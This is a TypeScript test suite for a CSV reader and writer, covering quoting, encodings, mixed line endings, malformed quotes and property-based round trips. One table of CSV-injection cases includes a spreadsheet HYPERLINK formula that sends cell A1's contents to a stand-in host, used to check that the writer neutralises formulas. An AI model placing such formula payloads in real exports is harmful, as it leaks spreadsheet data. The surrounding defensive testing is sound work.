import fc from 'fast-check';
import { mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import { describe, expect, it } from 'vitest';
import { FileInputError, openCsv } from '../../src/files/csv-reader.js';
import { CsvWriter, fileSink, formatCsvCell, formatCsvRow, functionSink, neutralizeFormula } from '../../src/files/csv-writer.js';
import { readAllRows, tempCsvFiles } from './csv-files.js';

const { dir, file } = tempCsvFiles('matchbook-csv-');
const readAll = readAllRows;

async function errorOf(p: Promise<unknown>): Promise<string> {
  try {
    await p;
  } catch (err) {
    expect(err).toBeInstanceOf(FileInputError);
    return (err as Error).message;
  }
  throw new Error('expected an error');
}

describe('formatCsvCell / formatCsvRow', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\r', '"cr\r"'],
    [' padded ', ' padded '],
    // CSV injection (OWASP): formula starts get a leading ', plain numbers do not.
    ['=HYPERLINK("http://x.example/?"&A1,"click")', '"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"'],
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(1,1)', '"\'@SUM(1,1)"'],
    ['\tcmd', "'\tcmd"],
    ['\r=1', '"\'\r=1"'],
    ['-', "'-"],
    ['+1 555 123 4567', "'+1 555 123 4567"],
    ['-12.5', '-12.5'],
    ['+15551234567', '+15551234567'],
    ['a=1', 'a=1'],
  ])('%j -> %j', (value, expected) => expect(formatCsvCell(value)).toBe(expected));

  it('every cell a spreadsheet would run as a formula is written as text', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '1', 'A', '(', ')', '.', ' ', ',') }), (cell) => {
        const out = neutralizeFormula(cell);
        return !/^[=+\-@\t\r]/.test(out) || /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)$/.test(out);
      }),
    );
  });

  it('quotes the delimiter in use; a lone empty field is written as ""', () => {
    expect(formatCsvRow(['a;b', 'c,d'], ';')).toBe('"a;b";c,d');
    expect(formatCsvRow([''])).toBe('""');
    expect(formatCsvRow(['', ''])).toBe(',');
  });
});

describe('openCsv', () => {
  it('reads header and rows, trims header names, names empty headers', async () => {
    const r = await readAll(file(' id , name ,\n1,Ann,x\n2,"Bob, Jr",y\n'));
    expect(r.layout.header).toEqual(['id', 'name', 'column 3']);
    expect(r.rows).toEqual([
      ['1', 'Ann', 'x'],
      ['2', 'Bob, Jr', 'y'],
    ]);
    expect(r.rowsRead).toBe(2);
  });

  it('detects ; and tab delimiters and CRLF line ends', async () => {
    const semi = await readAll(file('a;b;c\r\n1;2;3\r\n4;"5;5";6\r\n'));
    expect(semi.layout.delimiter).toBe(';');
    expect(semi.layout.newline).toBe('\r\n');
    expect(semi.rows).toEqual([
      ['1', '2', '3'],
      ['4', '5;5', '6'],
    ]);
    const tab = await readAll(file('a\tb\n1\t2,5\n'));
    expect(tab.layout.delimiter).toBe('\t');
    expect(tab.rows).toEqual([['1', '2,5']]);
  });

  it('counts blank lines, short and long rows with their line numbers', async () => {
    const r = await readAll(file('\na,b,c\n1,2,3\n\n4,5\n6,7,8,9\n"multi\nline",x,y\n10\n'));
    expect(r.layout.headerLine).toBe(2);
    expect(r.rows).toEqual([['1', '2', '3'], ['4', '5'], ['6', '7', '8', '9'], ['multi\nline', 'x', 'y'], ['10']]);
    expect(r.issues.blankLines).toEqual({ count: 2, lines: [1, 4] });
    expect(r.issues.shortRows).toEqual({ count: 2, lines: [5, 9] });
    expect(r.issues.longRows).toEqual({ count: 1, lines: [6] });
  });

  it('reads Latin-1 when the bytes are not UTF-8, and says so', async () => {
    const r = await readAll(file(Buffer.from('name,city\nJos\xe9,M\xfcnchen\n', 'latin1')));
    expect(r.layout.encoding).toBe('latin1');
    expect(r.layout.encodingReason).toMatch(/not valid UTF-8/);
    expect(r.rows).toEqual([['José', 'München']]);
  });

  it('counts rows with bytes invalid in the given encoding', async () => {
    const r = await readAll(file(Buffer.from('name,city\nJos\xe9,x\nAnn,y\n', 'latin1')), { encoding: 'utf8' });
    expect(r.rows[0]?.[0]).toBe('Jos\uFFFD');
    expect(r.issues.badBytes).toEqual({ count: 1, lines: [2] });
  });

  it('reads UTF-16 with a byte-order mark and strips a UTF-8 byte-order mark', async () => {
    const text = 'name,city\nZoë,Köln\n';
    const le = await readAll(file(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])));
    expect(le.layout.encoding).toBe('utf16le');
    expect(le.rows).toEqual([['Zoë', 'Köln']]);
    const bom = await readAll(file(`\uFEFF${text}`));
    expect(bom.layout.header).toEqual(['name', 'city']);
  });

  it('reads LF and CRLF lines mixed in one file, whichever comes first; a CR is never left in a cell', async () => {
    const people = [
      ['John', 'Smith', '1970-01-02'],
      ['Mary', 'Jones', '1980-01-02'],
      ['Peter', 'Brown', '1990-01-02'],
      ['Ann', 'Lee', '1991-01-01'],
    ];
    const crlfFirst = await readAll(
      file('first_name,last_name,dob\r\nJohn,Smith,1970-01-02\nMary,Jones,1980-01-02\nPeter,Brown,1990-01-02\r\nAnn,Lee,1991-01-01\n'),
    );
    expect(crlfFirst.layout.header).toEqual(['first_name', 'last_name', 'dob']);
    expect(crlfFirst.rows).toEqual(people);
    expect(crlfFirst.lines).toEqual([2, 3, 4, 5]);
    const lfFirst = await readAll(
      file('first_name,last_name,dob\nJohn,Smith,1970-01-02\r\nMary,Jones,1980-01-02\r\nPeter,Brown,1990-01-02\nAnn,Lee,1991-01-01\r\n'),
    );
    expect(lfFirst.rows).toEqual(people);
    // At the end without a line break, in blank lines, and chunks cut between CR and LF.
    const cut = await readAll(file('a,b\r\n1,2\r\n\r\n3,\n4,5\r'), { chunkBytes: 16 });
    expect(cut.rows).toEqual([
      ['1', '2'],
      ['3', ''],
      ['4', '5'],
    ]);
    expect(cut.issues.blankLines).toEqual({ count: 1, lines: [3] });
  });

  it('a quoted cell keeps its own CR and line breaks, in LF and CRLF files', async () => {
    const r = await readAll(file('a,b\n"x\r",y\r\n"p\r\nq","r\r"\r\n"s" ,"t\r"\n'));
    expect(r.rows).toEqual([
      ['x\r', 'y'],
      ['p\r\nq', 'r\r'],
      ['s', 't\r'],
    ]);
    expect(r.lines).toEqual([2, 3, 5]);
    expect(r.issues.badQuotes.count).toBe(0);
  });

  it('reports malformed quotes and the lines they swallow', async () => {
    // A quote closed and followed by text keeps the text, as Excel and Python's csv module read it; the row ends at its line end.
    const r = await readAll(file('a,b\n"x"y,1\n2,3\n4,5\n'));
    expect(r.rows).toEqual([
      ['xy', '1'],
      ['2', '3'],
      ['4', '5'],
    ]);
    expect(r.issues.badQuotes).toEqual({ count: 1, lines: [2] });
    expect(r.issues.swallowedLines.count).toBe(0);
    const unclosed = await readAll(file('a,b\n1,2\n3,"never closed\n5,6\n'));
    expect(unclosed.rows).toEqual([
      ['1', '2'],
      ['3', 'never closed\n5,6\n'],
    ]);
    expect(unclosed.issues.badQuotes).toEqual({ count: 1, lines: [3] });
    expect(unclosed.issues.swallowedLines.count).toBe(1);
  });

  it('one stray quote does not swallow the rows after it, whatever the chunking', async () => {
    const body = 'first,last,company\nJohn,Smith,"Acme" Inc\n' + Array.from({ length: 5000 }, (_, i) => `P${i},Q${i},C${i}\n`).join('');
    for (const chunkBytes of [64, 1 << 20]) {
      const r = await readAll(file(body), { chunkBytes });
      expect(r.rows.length).toBe(5001);
      expect(r.rows[0]).toEqual(['John', 'Smith', 'Acme Inc']);
      expect(r.rows[5000]).toEqual(['P4999', 'Q4999', 'C4999']);
      expect(r.lines[5000]).toBe(5002);
      expect(r.issues.badQuotes).toEqual({ count: 1, lines: [2] });
      expect(r.issues.swallowedLines.count).toBe(0);
    }
  });

  it('stops with a clear error when a quote swallows the file', async () => {
    const body = 'a,b\n1,"open\n' + 'x,y\n'.repeat(2000);
    const message = await errorOf(readAll(file(body), { maxRowChars: 1024, chunkBytes: 256 }));
    expect(message).toMatch(/line 2: .*quoted field is probably not closed/);
  });

  it('gives clear errors for missing, directory and empty inputs', async () => {
    expect(await errorOf(openCsv(join(dir, 'nope.csv')))).toMatch(/nope\.csv: no such file/);
    const sub = join(dir, 'sub');
    mkdirSync(sub);
    expect(await errorOf(openCsv(sub))).toMatch(/is a directory/);
    expect(await errorOf(openCsv(file('')))).toMatch(/empty/);
    expect(await errorOf(openCsv(file('\n\n')))).toMatch(/empty/);
  });

  it('a header without rows gives no rows', async () => {
    const r = await readAll(file('a,b'));
    expect(r.layout.header).toEqual(['a', 'b']);
    expect(r.rows).toEqual([]);
  });
});

describe('CSV round trip (property)', () => {
  const cellText = fc.oneof(
    fc.string({ unit: 'grapheme', maxLength: 8 }),
    fc.constantFrom('', ' ', '"', '""', ',', ';', '\n', '\r\n', '\r', 'a"b', ' x ', 'é', '\t'),
  );
  const table = fc.integer({ min: 1, max: 4 }).chain((width) =>
    fc
      .array(fc.array(cellText, { minLength: width, maxLength: width }), { maxLength: 12 })
      // A one-column row whose only value is blank reads as a blank line (counted, not a row).
      .map((rows) => rows.filter((r) => width > 1 || (r[0] ?? '').trim().length > 0))
      .map((rows) => ({ width, rows })),
  );

  it('rows written by formatCsvRow read back equal, whatever the chunk size', async () => {
    await fc.assert(
      fc.asyncProperty(table, fc.constantFrom(16, 37, 1 << 20), fc.constantFrom(',', ';'), async ({ width, rows }, chunkBytes, delimiter) => {
        const header = Array.from({ length: width }, (_, i) => `h${i}`);
        const text = [header, ...rows].map((r) => formatCsvRow(r, delimiter)).join('\n') + '\n';
        const r = await readAll(file(text), { chunkBytes, delimiter });
        return (
          isDeepStrictEqual(r.layout.header, header) &&
          isDeepStrictEqual(
            r.rows,
            rows.map((row) => row.map(neutralizeFormula)),
          ) &&
          r.issues.shortRows.count === 0 &&
          r.issues.longRows.count === 0 &&
          r.issues.badQuotes.count === 0
        );
      }),
      { numRuns: 300 },
    );
  });

  it('rows written by formatCsvRow read back equal when LF and CRLF line ends mix', async () => {
    await fc.assert(
      fc.asyncProperty(
        table,
        fc.array(fc.boolean(), { minLength: 13, maxLength: 13 }),
        fc.constantFrom(16, 1 << 20),
        async ({ width, rows }, crlf, chunkBytes) => {
          const header = Array.from({ length: width }, (_, i) => `h${i}`);
          const text = [header, ...rows].map((r, i) => formatCsvRow(r, ',') + (crlf[i] === true ? '\r\n' : '\n')).join('');
          const r = await readAll(file(text), { chunkBytes, delimiter: ',' });
          return (
            isDeepStrictEqual(r.layout.header, header) &&
            isDeepStrictEqual(
              r.rows,
              rows.map((row) => row.map(neutralizeFormula)),
            )
          );
        },
      ),
      { numRuns: 300 },
    );
  });

  it('a row with a quote closed too early still ends at its line end', async () => {
    const plain = fc.string({ unit: fc.constantFrom('a', 'b', ' ', '1'), maxLength: 4 });
    const stray = fc.tuple(plain, plain).map(([a, b]) => `"${a}"${b.length > 0 && b.trim().length === 0 ? 'x' : b}`);
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.array(fc.oneof(plain, stray), { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 20 }),
        fc.constantFrom(16, 1 << 20),
        async (rows, chunkBytes) => {
          const text = `h0,h1\n${rows.map((r) => r.join(',')).join('\n')}\n`;
          const r = await readAll(file(text), { chunkBytes, delimiter: ',' });
          const want = rows.map((row) => row.map((c) => (c.startsWith('"') ? c.replace(/^"([^"]*)"/, '$1') : c)));
          return (
            r.issues.swallowedLines.count === 0 &&
            isDeepStrictEqual(
              r.rows.filter((row) => row.length > 1 || (row[0] ?? '').trim() !== ''),
              want.filter((row) => row.length > 1 || (row[0] ?? '').trim() !== ''),
            )
          );
        },
      ),
      { numRuns: 300 },
    );
  });

  it('CsvWriter writes to a file and to a function sink alike', async () => {
    const path = join(dir, 'out.csv');
    const rows = [
      ['id', 'name'],
      ['1', 'Ann "A"'],
      ['2', 'x,y'],
    ];
    const w = new CsvWriter(await fileSink(path));
    for (const r of rows) await w.writeRow(r);
    await w.close();
    let text = '';
    const w2 = new CsvWriter(functionSink((t) => (text += t)));
    for (const r of rows) await w2.writeRow(r);
    await w2.close();
    expect(readFileSync(path, 'utf8')).toBe(text);
    expect((await readAll(path)).rows).toEqual(rows.slice(1));
  });

  it('fileSink: a clear error for an unwritable path', async () => {
    expect(await errorOf(fileSink(join(dir, 'no', 'such', 'dir.csv')))).toMatch(/cannot write \(no such directory\)/);
  });
});
